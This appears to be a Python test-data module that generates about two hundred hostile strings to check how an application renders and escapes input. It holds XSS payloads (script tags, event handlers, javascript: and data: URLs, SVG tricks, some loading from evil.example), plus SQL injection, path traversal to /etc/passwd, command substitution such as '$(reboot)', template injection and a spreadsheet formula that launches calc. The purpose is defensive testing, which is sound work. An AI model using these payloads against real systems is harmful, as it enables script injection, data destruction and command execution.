"""Two hundred strings that try to be read as markup or script."""

CALL = "window.__xss=1"

TAGS = [
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<ScRiPt >{}</ScRiPt>", "<script src=data:,{}></script>",
    "<script/src=//evil.example/x.js></script>", "<scr<script>ipt>{}</scr</script>ipt>", "\"><script>{}</script>",
    "'><script>{}</script>", "</script><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "<!--<script>{}</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<script type=module>{}</script>",
    "<script defer>{}</script>", "<script nonce=''>{}</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<template><script>{}</script></template>",
    "<xmp><img src=x onerror={}></xmp>", "<plaintext><script>{}</script>", "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=import href=data:text/html,{}>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url(javascript:{})}}</style>", "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>", "<applet code={}></applet>", "<frameset onload={}>", "<marquee>{}</marquee>",
    "<form action=javascript:{}><input type=submit>", "<button formaction=javascript:{}>x</button>",
    "<isindex action=javascript:{} type=submit>", "<a href=javascript:{}>x</a>", "<a href=' javascript:{}'>x</a>",
    "<a href='jav&#x09;ascript:{}'>x</a>", "<a href=data:text/html,<script>{}</script>>x</a>",
    "<a target=_blank href=javascript:{}>x", "<area href=javascript:{}>", "<img src=javascript:{}>",
    "<img lowsrc=javascript:{}>", "<input type=image src=javascript:{}>", "<bgsound src=javascript:{}>",
    "<table background=javascript:{}>", "<td background=javascript:{}>", "<div style=width:expression({})>",
    "<xss style=behavior:url(#default)>{}</xss>", "<portal src=javascript:{}>", "<dialog open>{}</dialog>",
]  # fmt: skip

EVENTS = [
    "abort", "animationend", "animationstart", "auxclick", "beforeinput", "beforetoggle", "blur", "canplay", "change",
    "click", "contextmenu", "copy", "cut", "dblclick", "drag", "drop", "error", "focus", "focusin", "formdata",
    "input", "invalid", "keydown", "load", "loadstart", "mouseenter", "mouseover", "pageshow", "paste", "pointerover",
    "pointerenter", "resize", "scroll", "search", "securitypolicyviolation", "select", "slotchange", "submit",
    "toggle", "touchstart", "transitionend", "unhandledrejection", "wheel",
]  # fmt: skip
HOSTS = ["img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "div tabindex=0", "marquee"]

SVG = [
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><script href=data:,{} />",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>",
    "<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>", "<svg><use href=data:image/svg+xml,{}#x />",
    "<svg><foreignObject><iframe src=javascript:{}></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror={}></style></svg>", "<svg><title><img src=x onerror={}></title></svg>",
    "<svg><desc><script>{}</script></desc></svg>", "<svg><image href=x onerror={}></svg>",
    "<math href=javascript:{}>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction>",
    "<?xml-stylesheet href=javascript:{}?>", "<svg><handler xmlns:ev=x ev:event=load>{}</handler></svg>",
]  # fmt: skip

ADDRESSES = [
    "javascript:{}", "JaVaScRiPt:{}", "javascript://%0a{}", "javascript:/*--></title></style>*/{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "vbscript:{}", "blob:{}", "//evil.example/{}", "https://evil.example/?{}", "file:///etc/passwd?{}",
]  # fmt: skip

TEMPLATES = [
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{% {} %}}", "[[{}]]", "@({})",
    "{{{{7*7}}}} {}", "${{7*7}} {}", "`${{{}}}`", "'+{}+'", "\"+{}+\"", "';{}//", "\";{}//", "\\';{}//",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "＜script＞{}＜/script＞",
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "undefined", "null", "NaN", "true", "0",
    "[object Object]", "{{\"__proto__\":{{\"x\":\"{}\"}}}}", "{{count, plural, one {{#}} other {{#}}}}",
    "{{name}}", "{{0}}",
    "<0>{}</0>", "<b>жирно</b> <i>{}</i>", "=HYPERLINK(\"javascript:{}\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)",
    "'; DROP TABLE transactions; --", "1 OR 1=1", "../../../etc/passwd", "%s%s%s%n", "C:\\con\\con", "$(reboot)",
    "`id`", "*)(uid=*))(|(uid=*", "\\\\\\", "''''''", "\"\"\"\"\"\"", "<>", "&&&amp;&amp;amp;",
    "<!doctype html>", "</div></main>",
]  # fmt: skip

UNICODE = [
    "Щ" * 90, "ж" * 100, "W" * 100, "нет-пробелов-" * 7, "٣٤٥ ١٢٣ مصروفات السوق", "קניות בסופר 250", "買い物リスト東京",
    "Zalgo " + "e\u0301\u0327\u0316\u0320" * 12, "👩‍👩‍👧‍👦 семья 👨🏿‍🚀", "🏴󠁧󠁢󠁳󠁣󠁴󠁿 флаг", "🇷🇺🇺🇸🇩🇪", "𝕶𝖔𝖕𝖎𝖑𝖐𝖆", "ﷺ﷽",
    "а\u0308ё\u0301й\u0306", "\u200bневидимка\u200b", "мяг\u00adкий пере\u00adнос",
    "не\u00a0рвать\u2060здесь", "\ufeffметка",
    "\u202eоборот\u202c", "\u2066изолят\u2069", "слева\u200fсправа", "\u200eлево\u200e", "ＦＵＬＬＷＩＤＴＨ",
    "ıİiI ßẞ ſ",
    "Ǆǅǆ ﬁ ﬂ", "½ ⅓ ① Ⅳ", "a" + "\u0300" * 40, "𠜎𠜱𠝹𠱓", "test\u2028line", "test\u2029paragraph", "a\tb",
    "🀄🃏🎴",
    "¯\\_(ツ)_/¯",
]  # fmt: skip


def events() -> list[str]:
    return [f"<{HOSTS[index % len(HOSTS)]} on{name}={CALL}>" for index, name in enumerate(EVENTS)]


def texts() -> list[str]:
    made = [it.format(CALL) for it in (*TAGS, *SVG, *ADDRESSES, *TEMPLATES)] + events() + UNICODE
    return list(dict.fromkeys(made))
